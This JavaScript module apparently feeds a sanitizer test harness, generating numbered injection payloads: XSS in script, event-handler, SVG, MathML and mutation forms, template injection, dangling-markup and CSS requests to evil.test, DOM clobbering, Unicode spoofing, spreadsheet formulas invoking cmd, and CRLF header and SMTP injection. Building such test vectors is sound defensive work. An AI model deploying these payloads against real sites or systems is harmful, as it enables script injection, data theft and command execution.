// Texts that were written to become something else: markup, an address that runs, a line of a header, a formula, a
// name that reads backwards. Each says `planted(N)` or goes to evil.test/N, so that what runs is known by its number
// (watch.mjs). `kind` is the family, for the report.

const run = (n) => `planted(${n})`;
const away = (n) => `//evil.test/${n}`;

const kFamilies = {
  script: [
    (n) => `<script>${run(n)}</script>`,
    (n) => `<SCRIPT SRC=${away(n)}.js></SCRIPT>`,
    (n) => `"><script>${run(n)}</script>`,
    (n) => `'><script>${run(n)}</script>`,
    (n) => `</textarea><script>${run(n)}</script>`,
    (n) => `</title></style><script>${run(n)}</script>`,
    (n) => `<script/type=module>${run(n)}</script>`,
    (n) => `<scr<script>ipt>${run(n)}</scr</script>ipt>`,
    (n) => `<!--<script>--><script>${run(n)}</script>`,
    (n) => `]]><script>${run(n)}</script>`,
    (n) => `';${run(n)};//</script><script>${run(n)}//`,
    (n) => `<script>import("https:${away(n)}.mjs")</script>`,
  ],
  handler: [
    (n) => `<img src=x onerror=${run(n)}>`,
    (n) => `"><img src=x onerror="${run(n)}">`,
    (n) => `" onfocus="${run(n)}" autofocus onmouseover="${run(n)}" x="`,
    (n) => `' onfocus='${run(n)}' autofocus x='`,
    (n) => `<input autofocus onfocus=${run(n)}>`,
    (n) => `<details open ontoggle=${run(n)}>x</details>`,
    (n) => `<video><source onerror=${run(n)}></video>`,
    (n) => `<body onload=${run(n)}>`,
    (n) => `<style onload=${run(n)}>*{}</style>`,
    (n) => `<img/src=x/onerror=${run(n)}//`,
    (n) => `<p style="animation:spin 1s" onanimationstart=${run(n)}>x</p>`,
    (n) => `<xss contenteditable autofocus tabindex=1 onfocus=${run(n)}>x</xss>`,
  ],
  scheme: [
    (n) => `<a href="javascript:${run(n)}">here</a>`,
    (n) => `javascript:${run(n)}`,
    (n) => ` java\tscript:${run(n)}`,
    (n) => `[here](javascript:${run(n)})`,
    (n) => `<a href="data:text/html,<script>${run(n)}</script>">here</a>`,
    (n) => `https://evil.test/${n}" onclick="${run(n)}`,
    (n) => `<form action=javascript:${run(n)}><button>go</button></form>`,
    (n) => `<iframe src="javascript:parent.${run(n)}"></iframe>`,
    (n) => `<iframe srcdoc="<script>parent.${run(n)}</script>"></iframe>`,
    (n) => `<object data="data:text/html,<script>${run(n)}</script>"></object>`,
    (n) => `<embed src="https:${away(n)}.svg">`,
    (n) => `<meta http-equiv=refresh content="0;url=https:${away(n)}">`,
    (n) => `<base href="https:${away(n)}/">`,
  ],
  svg: [
    (n) => `<svg onload=${run(n)}>`,
    (n) => `<svg><script>${run(n)}</script></svg>`,
    (n) => `<svg><animate onbegin=${run(n)} attributeName=x dur=1s></svg>`,
    (n) => `<svg><a xlink:href="javascript:${run(n)}"><text y=9>x</text></a></svg>`,
    (n) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${run(n)}'/>#x"/></svg>`,
    (n) => `<svg><foreignObject><img src=x onerror=${run(n)}></foreignObject></svg>`,
    (n) => `<svg><image href="https:${away(n)}.png"/></svg>`,
  ],
  mathml: [
    (n) => `<math href="javascript:${run(n)}">x</math>`,
    (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run(n)}&gt;">`,
    (n) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${run(n)}></annotation-xml></math>`,
  ],
  // Harmless until it is read a second time.
  mutation: [
    (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>"></noscript>`,
    (n) => `<svg></p><style><a id="</style><img src=1 onerror=${run(n)}>">`,
    (n) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run(n)}>`,
    (n) => `<listing>&lt;img src=x onerror=${run(n)}&gt;</listing>`,
    (n) => `<template shadowrootmode=open><img src=x onerror=${run(n)}></template>`,
    (n) => `&lt;img src=x onerror=${run(n)}&gt;`,
    (n) => `&amp;lt;script&amp;gt;${run(n)}&amp;lt;/script&amp;gt;`,
    (n) => `<table><td><style></table><img src=x onerror=${run(n)}></style>`,
  ],
  template: [
    (n) => `{{constructor.constructor('${run(n)}')()}}`,
    (n) => `\${${run(n)}}`,
    (n) => `{@html "<img src=x onerror=${run(n)}>"}`,
    (n) => `{{SUBJECT}}{{TEXT:none}}{{>foot}}<script>${run(n)}</script>`,
    (n) => `[[> head]]<script>${run(n)}</script>[[track.title]]`,
    (n) => `<%= ${run(n)} %>#{${run(n)}}`,
    (n) => `{name} {agent} {unsubscribe} ${run(n)}`,
  ],
  dangling: [
    (n) => `<img src='https:${away(n)}?`,
    (n) => `<a href='https:${away(n)}'><textarea name='`,
    (n) => `<form action=https:${away(n)}><button>x</button><input name=x value='`,
    (n) => `<link rel=stylesheet href="https:${away(n)}.css">`,
    (n) => `<plaintext>${n}`,
    (n) => `--><!--${n}<p`,
  ],
  css: [
    (n) => `<style>@import 'https:${away(n)}.css';</style>`,
    (n) => `" style="background:url(https:${away(n)})`,
    (n) => `<p style="position:fixed;inset:0;background:url(https:${away(n)})">x</p>`,
    (n) => `}</style><style>body{background:url(https:${away(n)})}</style>`,
    (n) => `red;background:url(https:${away(n)})`,
  ],
  clobbering: [
    (n) => `<form id=app><input name=firstChild value=${n}></form>`,
    (n) => `<a id=trustedTypes><a id=trustedTypes name=createPolicy href="javascript:${run(n)}">`,
    () => "__proto__",
    () => "constructor",
  ],
  // What a reader takes for something else.
  unicode: [
    (n) => `invoice ${n} \u202efdp.exe`,
    (n) => `\u2066${n}\u2069 \u2067${run(n)}\u2069`,
    (n) => `Anna\u200b\u200cDeclercq ${n}`,
    (n) => `\uff1cscript\uff1e${run(n)}\uff1c/script\uff1e`,
    (n) => `\ufeff<script>${run(n)}</script>`,
    (n) => `Z${"\u0301".repeat(40)} ${n}`,
    (n) => `a\u2028${run(n)}\u2029b`,
    (n) => `<scr\0ipt>${run(n)}</scr\0ipt>`,
    (n) => `+ADw-script+AD4-${run(n)}+ADw-/script+AD4-`,
    (n) => `%3Cscript%3E${run(n)}%3C/script%3E`,
    (n) => `\\u003cimg src=x onerror=${run(n)}\\u003e`,
  ],
  formula: [
    (n) => `=HYPERLINK("https:${away(n)}","open")`,
    (n) => `+cmd|' /C calc'!A${n}`,
    (n) => `@SUM(1+${n})*cmd|' /C calc'!A0`,
    (n) => `-2+3+cmd|' /C calc'!A${n}`,
  ],
  line: [
    (n) => `Anna\r\nBcc: victim${n}@evil.test`,
    (n) => `x\r\nSet-Cookie: planted=${n}`,
    (n) => `x%0d%0aLocation:%20https:${away(n)}`,
    (n) => `x\r\n\r\n<script>${run(n)}</script>`,
    (n) => `x\r\n.\r\nMAIL FROM:<evil${n}@evil.test>`,
  ],
};

export const vectors = Object.entries(kFamilies)
  .flatMap(([kind, makers]) => makers.map((make) => ({ kind, make })))
  .map(({ kind, make }, index) => ({ kind, number: index + 1, text: make(index + 1) }));
